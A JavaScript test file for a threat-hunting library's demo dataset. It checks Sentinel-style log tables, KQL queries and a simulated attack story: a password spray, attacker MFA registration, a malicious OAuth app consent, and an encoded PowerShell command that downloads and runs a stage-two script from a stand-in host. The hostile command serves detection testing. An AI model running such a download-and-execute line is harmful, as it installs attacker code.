// The embedded demo data set: every table there, newest event now, and the attack story findable.
import { test } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { loadHuntbook, dist } from "./helpers.mjs";

const hb = await loadHuntbook();
const NOW = Date.UTC(2026, 10, 29, 12, 0, 0);
// Before any loadDemo(): QueryProvider("LocalData") without data says what to do (checked in the test below).
let before = null;
try {
  new hb.QueryProvider("LocalData");
} catch (e) {
  before = e;
}
const demo = await hb.loadDemo({ now: NOW });

test("the demo workspace has the Sentinel tables", () => {
  for (const t of ["SigninLogs", "SecurityAlert", "SecurityEvent", "OfficeActivity", "Syslog", "AzureActivity",
    "CommonSecurityLog", "DnsEvents", "Heartbeat", "ThreatIntelligenceIndicator", "AuditLogs",
    "AADNonInteractiveUserSignInLogs"]) {
    assert.ok(demo.tables.includes(t), `${t} is there`);
    assert.ok(demo.table(t).numRows > 10, `${t} has rows`);
    // Log Analytics' standard columns are in every table (as stored)
    assert.ok(demo.table(t).columns.includes("_ResourceId") && demo.table(t).columns.includes("_SubscriptionId"), t);
  }
  assert.throws(() => demo.table("NoSuchTable"),
    /unknown table 'NoSuchTable'\. Tables are: AADNonInteractiveUserSignInLogs, AuditLogs, AzureActivity/);
});

test("queries leave the standard columns out unless they name them, as a workspace does", async () => {
  const qp = new hb.QueryProvider("LocalData");
  const all = await qp.execQuery("SecurityEvent | where Computer == 'WKS-FIN-07.contoso.com' | take 1");
  assert.ok(all.columns.includes("Computer") && all.columns.includes("Type"));
  assert.ok(!all.columns.includes("_ResourceId") && !all.columns.includes("_IsBillable"), all.columns.join());
  const named = await qp.execQuery("SecurityEvent | where Computer == 'WKS-FIN-07.contoso.com' | take 1 | project Computer, _ResourceId");
  assert.deepEqual(named.toRows(), [{ Computer: "WKS-FIN-07.contoso.com",
    _ResourceId: "/subscriptions/9f3a1c2e-5b7d-4e8f-a1b2-c3d4e5f6a7b8/resourcegroups/rg-monitoring/providers/microsoft.hybridcompute/machines/wks-fin-07" }]);
});

test("AuditLogs and the non-interactive sign-ins hold the attacker's MFA registration, OAuth consent and token use", async () => {
  const qp = new hb.QueryProvider("LocalData");
  const audit = await qp.execQuery(`AuditLogs
    | where tostring(InitiatedBy.user.ipAddress) == "185.220.101.45"
    | project OperationName, Target = tostring(TargetResources[0].userPrincipalName), App = tostring(TargetResources[0].displayName)
    | sort by OperationName asc`);
  assert.deepEqual(audit.toRows().map((r) => r.OperationName), ["Add app role assignment grant to user",
    "Add delegated permission grant", "Add service principal", "Consent to application", "Update user",
    "User registered all required security info", "User registered security info",
    "User started security info registration"]);
  const consent = audit.toRows().find((r) => r.OperationName === "Consent to application");
  assert.equal(consent.App, "Mail Backup Sync");
  const mfa = await qp.execQuery(`AuditLogs | where OperationName == "Update user"
    | mv-expand p = TargetResources[0].modifiedProperties
    | where tostring(p.displayName) == "StrongAuthenticationMethod" and tostring(InitiatedBy.user.userPrincipalName) == "mike.jones@contoso.com"
    | project Old = tostring(p.oldValue), New = tostring(p.newValue)`);
  assert.deepEqual(mfa.toRows(), [{ Old: "[]", New: '[{"MethodType":6,"Default":false},{"MethodType":7,"Default":true}]' }]);
  const tokens = await qp.execQuery(`AADNonInteractiveUserSignInLogs | where IPAddress == "185.220.101.45"
    | summarize n = count() by AppDisplayName, UserPrincipalName | sort by AppDisplayName asc`);
  assert.deepEqual(tokens.toRows(), [
    { AppDisplayName: "Mail Backup Sync", UserPrincipalName: "mike.jones@contoso.com", n: 72 },
    { AppDisplayName: "Office 365 Exchange Online", UserPrincipalName: "mike.jones@contoso.com", n: 24 }]);
  // as in Log Analytics, the non-interactive table keeps LocationDetails as JSON text
  assert.equal(demo.table("AADNonInteractiveUserSignInLogs").dtypes.LocationDetails, "string");
});

test("timestamps are shifted so the newest event is now", () => {
  let newest = 0;
  for (const t of demo.tables) {
    const df = demo.table(t);
    if (!df.columns.includes("TimeGenerated")) continue;
    const top = df.sort("TimeGenerated", { descending: true }).row(0).TimeGenerated.getTime();
    newest = Math.max(newest, top);
  }
  assert.equal(newest, NOW);
  const office = demo.table("OfficeActivity").toRows();
  assert.ok(office.filter((r) => r.TimeGenerated.getTime() > NOW - 86400000).length >= 5, "OfficeActivity has events in the last day");
});

test("SigninLogs has the schema's dynamic columns and the password spray", () => {
  const s = demo.table("SigninLogs");
  assert.equal(s.dtypes.LocationDetails, "dynamic");
  assert.equal(s.dtypes.DeviceDetail, "dynamic");
  assert.equal(s.dtypes.Status, "dynamic");
  assert.equal(s.dtypes.TimeGenerated, "datetime");
  const spray = s.isin("IPAddress", ["185.220.101.45", "45.153.160.2", "193.142.146.213"]);
  const failures = spray.filter("ResultType", "50126");
  assert.ok(failures.numRows >= 10, `spray failures: ${failures.numRows}`);
  const users = failures.valueCounts("UserPrincipalName");
  assert.ok(users.numRows >= 8, "sprayed against several accounts");
  const success = spray.filter({ ResultType: "0", UserPrincipalName: "mike.jones@contoso.com" });
  assert.ok(success.numRows >= 1, "one account was compromised");
  const country = s.dynamicPath("LocationDetails", "countryOrRegion", "Country").filter("IPAddress", "185.220.101.45").row(0).Country;
  assert.equal(country, "DE");
});

test("the encoded PowerShell download is in SecurityEvent", () => {
  const procs = demo.table("SecurityEvent").filter("EventID", 4688).filter("Computer", "WKS-FIN-07.contoso.com");
  const cmds = procs.toRows().map((r) => r.CommandLine);
  const encoded = cmds.find((c) => /-EncodedCommand/i.test(c) && /-w hidden/i.test(c));
  assert.ok(encoded, "an encoded command line");
  const b64 = encoded.split(/\s+/).pop();
  const text = Buffer.from(b64, "base64").toString("utf16le");
  assert.equal(text, "IEX (New-Object Net.WebClient).DownloadString('http://cdn-updates.northwind-sync.xyz/stage2.ps1')");
});

test("the demo data is the file beside the wasm, and QueryProvider(\"LocalData\") needs loadDemo() first", async () => {
  assert.match(String(before), /call `await huntbook\.loadDemo\(\)` first/);
  // The same tables come from the file given by path (read from disk), from bytes' URL, and by default.
  const file = path.join(dist, "huntbook_demo.la.json.gz");
  assert.ok(fs.statSync(file).size > 1_000_000);
  const again = await hb.loadDemo({ now: NOW, url: new URL(`file://${file}`) });
  assert.deepEqual(again.tables, demo.tables);
  assert.equal(again.table("SecurityEvent").numRows, demo.table("SecurityEvent").numRows);
  await assert.rejects(hb.loadDemo({ url: new URL(`file://${path.join(dist, "no-such-file.json.gz")}`) }), /ENOENT|no such file/);
  // A provider queries a copy of the last loaded tables: its addTable leaves `demo` as it was.
  const qp = new hb.QueryProvider("LocalData");
  assert.deepEqual(await qp.schemaTables(), demo.tables);
  qp.addTable("Extra", demo.table("Heartbeat").head(1));
  assert.ok((await qp.schemaTables()).includes("Extra"));
  assert.ok(!demo.tables.includes("Extra"));
  const newest = await qp.execQuery("Heartbeat | summarize max(TimeGenerated)");
  assert.ok(newest.row(0).max_TimeGenerated.getTime() <= NOW);
});
